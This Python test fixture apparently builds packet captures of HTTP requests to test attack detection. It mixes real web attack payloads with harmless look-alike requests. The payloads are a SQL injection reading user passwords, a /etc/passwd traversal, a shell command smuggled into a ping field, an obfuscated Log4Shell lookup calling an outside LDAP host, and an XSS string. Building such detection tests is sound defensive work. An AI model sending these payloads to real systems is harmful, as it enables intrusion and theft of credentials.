# SPDX-License-Identifier: Apache-2.0
"""Behaviours that no honest host shows."""
from craft import Talk, ether
from packets import ETHERNET

OK = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"
GONE = b"HTTP/1.1 404 Not Found\r\nContent-Length: 5\r\n\r\nnot h"


def request(target, *fields, body=b"", agent=b"Mozilla/5.0 (X11; Linux x86_64)"):
    method = b"POST" if body else b"GET"
    length = [b"Content-Length: %d" % len(body)] if body else []
    return b"\r\n".join([method + b" " + target + b" HTTP/1.1", b"Host: shop.city.example", b"User-Agent: " + agent,
                         *fields, *length, b"", body])


def case_web():
    """Attacks in each part of a request, and requests that only look a little like some."""
    talk, asked = Talk(), (
        (request(b"/list?id=7%27%20UNION/**/SELECT%20name,password%20FROM%20users--%20"), OK),
        (request(b"/%c0%ae%c0%ae/..%2f..%2fetc/passwd"), GONE),
        (request(b"/ping", body=b"host=127.0.0.1%3Bc''at+/var/log/messages"), OK),
        (request(b"/", b"X-Api-Version: ${${lower:j}ndi:${::-l}dap://203.0.113.9:1389/a}"), OK),
        (request(b"/post", b"Cookie: session=1", body=b"text=%3Cimg+src=x+onerror%3Dalert(1)%3E"), OK),
        (request(b"/", agent=b"sqlmap/1.7.2#stable (https://sqlmap.org)"), OK),
        (request(b"/search?q=union+of+select+committees&page=2", b"Cookie: id=5; ls=1"), OK),
        (request(b"/note", b"Content-Type: application/json", body=b'{"text": "O\'Neil & sons; more (see #4)"}'), OK))
    for question, answer in asked:
        talk.data(0, question, size=1400)
        talk.data(1, answer)
    talk.close()
    return ETHERNET, [ether(p) for p in talk.packets]
